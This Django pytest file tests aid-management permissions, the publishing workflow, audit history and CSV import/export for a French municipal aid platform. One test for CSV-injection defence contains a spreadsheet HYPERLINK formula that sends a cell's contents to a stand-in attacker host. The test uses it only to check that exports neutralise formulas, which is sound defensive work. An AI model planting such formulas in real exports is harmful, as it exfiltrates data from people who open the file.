from __future__ import annotations

import pytest

from renouveau.aids.models import Aid, FunderMembership
from renouveau.core.models import AuditLog

from .conftest import make_aid

pytestmark = pytest.mark.django_db

# persona -> may change an aid of (metropolis funder, Marseille funder)
EDIT_MATRIX = {
    "resident": (False, False),
    "association_member": (False, False),
    "commune_agent": (False, True),  # editor of Marseille only
    "metropolis_agent": (True, False),  # reviewer of the metropolis only
    "moderator": (False, False),
    "elected": (False, False),
    "administrator": (True, True),
    "outsider": (False, False),
}
PUBLISH_MATRIX = {
    "commune_agent": (False, False),  # an editor cannot publish
    "metropolis_agent": (True, False),
    "administrator": (True, True),
    "resident": (False, False),
    "moderator": (False, False),
}


@pytest.mark.parametrize("persona", EDIT_MATRIX)
@pytest.mark.parametrize("status", [Aid.Status.DRAFT, Aid.Status.PUBLISHED])
def test_change_permission_matrix(personas, funders, persona, status):
    user = personas[persona]
    metropolis_aid = make_aid(funders["metropolis"], status=status)
    marseille_aid = make_aid(funders["marseille"], status=status)
    expected = EDIT_MATRIX[persona]
    assert user.has_perm("aids.change_aid", metropolis_aid) is expected[0]
    assert user.has_perm("aids.change_aid", marseille_aid) is expected[1]
    assert user.has_perm("aids.view_aid", metropolis_aid) is (
        status == Aid.Status.PUBLISHED or expected[0]
    )


@pytest.mark.parametrize("persona", PUBLISH_MATRIX)
def test_publish_permission_matrix(personas, funders, persona):
    user = personas[persona]
    aids = [make_aid(funders[k], status=Aid.Status.IN_REVIEW) for k in ("metropolis", "marseille")]
    assert tuple(user.has_perm("aids.publish_aid", a) for a in aids) == PUBLISH_MATRIX[persona]


def test_agent_without_funder_cannot_create(client, personas):
    client.force_login(personas["moderator"])
    assert client.get("/aides/gestion/").status_code == 403
    agent = personas["commune_agent"]
    client.force_login(agent)
    assert client.get("/aides/gestion/").status_code == 200
    assert client.get("/aides/gestion/nouvelle/").status_code == 403  # no funder yet


def _form_data(owner, **extra):
    data = {
        "title": "Aide au permis de conduire",
        "promise": "Financez votre permis",
        "audiences": ["young", "job_seeker"],
        "aid_types": ["grant"],
        "owner": owner.pk,
        "scope": "metropolis",
        "recurrence": "ongoing",
        "amount_max": "500",
    }
    data.update(extra)
    return data


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        ({"amount_min": "-50"}, "Indiquez un nombre positif."),
        ({"rate_max": "150"}, "Un taux ne dépasse pas 100 %."),
        ({"rate_min": "-1"}, "Indiquez un nombre positif."),
    ],
)
def test_negative_amounts_and_rates_over_100_are_refused(client, personas, funders, extra, message):
    """The CSV import refuses them: an aid saved from the form must export and re-import."""
    client.force_login(personas["commune_agent"])
    response = client.post("/aides/gestion/nouvelle/", _form_data(funders["marseille"], **extra))
    assert response.status_code == 400
    assert message in response.content.decode()
    assert not Aid.objects.exists()


def test_full_workflow_with_history(client, personas, funders):
    editor = personas["commune_agent"]
    marseille = funders["marseille"]
    reviewer = personas["metropolis_agent"]
    FunderMembership.objects.create(
        funder=marseille, user=reviewer, role=FunderMembership.Role.REVIEWER
    )
    client.force_login(editor)
    response = client.post("/aides/gestion/nouvelle/", _form_data(marseille))
    assert response.status_code == 302, response.content.decode()[:3000]
    aid = Aid.objects.get(title="Aide au permis de conduire")
    assert aid.status == Aid.Status.DRAFT and aid.owner == marseille
    assert client.get(aid.get_absolute_url()).status_code == 200  # preview for its editor
    response = client.post(
        f"/aides/gestion/{aid.pk}/modifier/", _form_data(marseille, promise="Un permis moins cher")
    )
    assert response.status_code == 302
    # The editor submits, but cannot publish.
    assert client.post(f"/aides/gestion/{aid.pk}/soumettre/").status_code == 302
    assert client.post(f"/aides/gestion/{aid.pk}/publier/").status_code == 403
    aid.refresh_from_db()
    assert aid.status == Aid.Status.IN_REVIEW
    client.force_login(reviewer)
    assert client.post(f"/aides/gestion/{aid.pk}/publier/").status_code == 302
    aid.refresh_from_db()
    assert aid.status == Aid.Status.PUBLISHED and aid.published_at
    client.logout()
    assert client.get(aid.get_absolute_url()).status_code == 200
    assert [a.pk for a in client.get("/aides/", {"q": "permis"}).context["page"]] == [aid.pk]
    client.force_login(reviewer)
    assert client.post(f"/aides/gestion/{aid.pk}/archiver/").status_code == 302
    aid.refresh_from_db()
    assert aid.status == Aid.Status.ARCHIVED
    actions = list(
        AuditLog.objects.filter(object_id=str(aid.pk), action__startswith="aids.aid_")
        .order_by("created_at", "id")
        .values_list("action", flat=True)
    )
    assert actions == [
        "aids.aid_created",
        "aids.aid_changed",
        "aids.aid_submitted",
        "aids.aid_published",
        "aids.aid_archived",
    ]
    history = client.get(f"/aides/gestion/{aid.pk}/").content.decode()
    assert "aids.aid_published" in history and editor.email in history
    # Archived: no more edits, but a copy can be made.
    assert client.get(f"/aides/gestion/{aid.pk}/modifier/").status_code == 302
    response = client.post(f"/aides/gestion/{aid.pk}/dupliquer/")
    copy = Aid.objects.exclude(pk=aid.pk).get(title__startswith="Copie de")
    assert response.url == f"/aides/gestion/{copy.pk}/"
    assert copy.status == Aid.Status.DRAFT and copy.audiences == aid.audiences


def test_wrong_transition_is_refused_with_a_message(client, personas, funders):
    aid = make_aid(funders["metropolis"], status=Aid.Status.DRAFT)
    client.force_login(personas["metropolis_agent"])
    response = client.post(f"/aides/gestion/{aid.pk}/publier/", follow=True)
    assert "n&#x27;est pas possible" in response.content.decode()
    aid.refresh_from_db()
    assert aid.status == Aid.Status.DRAFT


def test_editor_of_another_funder_gets_403(client, personas, funders):
    aid = make_aid(funders["metropolis"], status=Aid.Status.DRAFT)
    client.force_login(personas["commune_agent"])
    assert client.get(f"/aides/gestion/{aid.pk}/modifier/").status_code == 403
    assert client.post(f"/aides/gestion/{aid.pk}/soumettre/").status_code == 403
    assert client.get(aid.get_absolute_url()).status_code == 404
    # and cannot give an aid to a funder they do not belong to
    response = client.post("/aides/gestion/nouvelle/", _form_data(funders["metropolis"]))
    assert response.status_code == 400
    assert not Aid.objects.filter(title="Aide au permis de conduire").exists()


def test_invalid_form_answers_400_with_french_errors(client, personas, funders):
    client.force_login(personas["commune_agent"])
    response = client.post(
        "/aides/gestion/nouvelle/",
        _form_data(funders["marseille"], title="", amount_min="900", scope="communes"),
    )
    assert response.status_code == 400
    body = response.content.decode()
    assert "Ce champ est obligatoire" in body
    assert "Le minimum dépasse le maximum" in body
    assert "Choisissez au moins une commune" in body


def test_backoffice_list_shows_only_my_funders_aids(client, personas, funders):
    make_aid(funders["metropolis"], title="De la Métropole")
    make_aid(funders["marseille"], title="De Marseille")
    client.force_login(personas["commune_agent"])
    body = client.get("/aides/gestion/").content.decode()
    assert "De Marseille" in body and "De la Métropole" not in body
    assert client.get("/aides/gestion/", {"page": "-1"}).status_code == 400


# --- CSV import -------------------------------------------------------------------------

HEADER = "external_id,title,promise,audiences,aid_types,amount_max,scope,communes,closes_on\n"


def _upload(client, owner, text, dry_run):
    from django.core.files.uploadedfile import SimpleUploadedFile

    data = {"owner": owner.pk, "file": SimpleUploadedFile("aides.csv", text.encode("utf-8"))}
    if dry_run:
        data["dry_run"] = "on"
    return client.post("/aides/gestion/import/", data)


def test_csv_dry_run_reports_every_invalid_row_and_saves_nothing(client, personas, funders):
    client.force_login(personas["commune_agent"])
    text = HEADER + (
        "m-1,Aide vélo,Achetez un vélo,resident,grant,300,metropolis,,2030-01-31\n"
        "m-2,,Sans titre,resident,grant,,metropolis,,\n"
        "m-3,Mauvais public,x,martien,grant,abc,communes,,31/02/2030\n"
        "m-1,Doublon,x,resident,grant,,metropolis,,\n"
    )
    response = _upload(client, funders["marseille"], text, dry_run=True)
    assert response.status_code == 200
    report = response.context["report"]
    assert report.valid == 1 and not Aid.objects.exists()
    errors = {line: " ".join(messages) for line, _id, messages in report.errors}
    assert set(errors) == {3, 4, 5}
    assert "title : obligatoire" in errors[3]
    assert "martien" in errors[4] and "abc" in errors[4] and "31/02/2030" in errors[4]
    assert "communes : obligatoire" in errors[4]
    assert "déjà utilisé ligne 2" in errors[5]
    assert "Rien n'a été enregistré" in response.content.decode()


def test_csv_import_is_idempotent_on_external_id(client, personas, funders, marseille):
    client.force_login(personas["commune_agent"])
    text = HEADER + "m-1,Aide vélo,Achetez un vélo,resident|student,grant,300,communes,13055,\n"
    report = _upload(client, funders["marseille"], text, dry_run=False).context["report"]
    assert (report.created, report.updated, report.errors) == (1, 0, [])
    aid = Aid.objects.get(external_id="m-1")
    assert aid.status == Aid.Status.DRAFT and list(aid.communes.all()) == [marseille]
    text = text.replace("Achetez un vélo", "Achetez un vélo électrique")
    report = _upload(client, funders["marseille"], text, dry_run=False).context["report"]
    assert (report.created, report.updated) == (0, 1)
    assert Aid.objects.count() == 1
    aid.refresh_from_db()
    assert aid.promise == "Achetez un vélo électrique"
    assert AuditLog.objects.filter(action="aids.aids_imported").count() == 2


def test_csv_import_cannot_take_over_another_funders_aid(client, personas, funders):
    make_aid(funders["metropolis"], external_id="m-1", title="Métropole")
    client.force_login(personas["commune_agent"])
    text = HEADER + "m-1,Volée,x,resident,grant,,metropolis,,\n"
    report = _upload(client, funders["marseille"], text, dry_run=False).context["report"]
    assert report.created == report.updated == 0
    assert "autre porteur" in report.errors[0][2][0]
    assert Aid.objects.get(external_id="m-1").title == "Métropole"


@pytest.mark.parametrize(
    "raw,message",
    [
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00IHDR", "pas un texte CSV lisible"),
        (b"nom;prenom\nA;B\n", "Colonnes obligatoires absentes"),
        (b"", "est vide"),
        (b'external_id,title\n"m-1,"oops\n', "Colonnes obligatoires absentes"),
    ],
)
def test_malformed_csv_is_a_clear_400(client, personas, funders, raw, message):
    from django.core.files.uploadedfile import SimpleUploadedFile

    client.force_login(personas["commune_agent"])
    response = client.post(
        "/aides/gestion/import/",
        {"owner": funders["marseille"].pk, "file": SimpleUploadedFile("x.csv", raw)},
    )
    assert response.status_code == 400
    assert message in response.content.decode()
    assert not Aid.objects.exists()


def test_csv_export_reimports_unchanged(client, personas, funders):
    aid = make_aid(funders["marseille"], external_id="m-9", title="Aller-retour", amount_max=250)
    csv_text = client.get("/aides/export/aides.csv").content.decode()
    client.force_login(personas["commune_agent"])
    report = _upload(client, funders["marseille"], csv_text, dry_run=False).context["report"]
    assert (report.created, report.updated, report.errors) == (0, 1, [])
    aid.refresh_from_db()
    assert aid.title == "Aller-retour" and aid.amount_max == 250


def test_csv_export_defuses_formulas_and_reimports_the_text_as_typed(client, personas, funders):
    """CSV injection: text typed by an agent that a spreadsheet would run (``=``, ``+``,
    ``-``, ``@``) is exported with a protective apostrophe, and the import removes it, so the
    round trip gives back exactly what was typed (even text already starting with ``'=``)."""
    import csv
    import io

    typed = {
        "title": '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")',
        "promise": "-20 % sur la cantine",
        "description": "+33 4 91 00 00 00",
        "eligibility": "'=déjà protégé à la saisie",
        "examples": "@SUM(1+1)",
        "keywords": "-12.5",
        "amount_text": "'Jusqu'à 300 €",
        "contact": "Mairie, 04 91 00 00 00",
    }
    aid = make_aid(funders["marseille"], external_id="m-inj", **typed)
    csv_text = client.get("/aides/export/aides.csv").content.decode()
    row = next(csv.DictReader(io.StringIO(csv_text)))
    assert row["title"] == "'" + typed["title"]
    assert row["promise"] == "'-20 % sur la cantine"
    assert row["description"] == "'+33 4 91 00 00 00"
    assert row["eligibility"] == "''=déjà protégé à la saisie"
    assert row["examples"] == "'@SUM(1+1)"
    assert row["keywords"] == "-12.5"  # a plain number stays a number
    assert row["amount_text"] == typed["amount_text"]
    assert row["contact"] == typed["contact"]
    for value in row.values():
        assert value[:1] not in "=+@" or value == "", value
    client.force_login(personas["commune_agent"])
    report = _upload(client, funders["marseille"], csv_text, dry_run=False).context["report"]
    assert (report.created, report.updated, report.errors) == (0, 1, [])
    aid.refresh_from_db()
    for name, value in typed.items():
        assert getattr(aid, name) == value, name


def test_csv_import_keeps_an_apostrophe_that_protects_nothing(client, personas, funders):
    client.force_login(personas["commune_agent"])
    text = HEADER + "m-1,'Quartier d'été,'=1+1,resident,grant,,metropolis,,\n"
    report = _upload(client, funders["marseille"], text, dry_run=False).context["report"]
    assert report.created == 1, report.errors
    aid = Aid.objects.get(external_id="m-1")
    assert (aid.title, aid.promise) == ("'Quartier d'été", "=1+1")


def test_backoffice_list_query_count_is_constant(
    client, personas, funders, django_assert_max_num_queries
):
    client.force_login(personas["commune_agent"])
    make_aid(funders["marseille"], title="Une")
    with django_assert_max_num_queries(40) as first:
        client.get("/aides/gestion/")
    for i in range(15):
        make_aid(funders["marseille"], title=f"Aide {i}")
    with django_assert_max_num_queries(len(first.captured_queries)):
        response = client.get("/aides/gestion/")
    assert response.content.decode().count("/aides/gestion/") >= 16
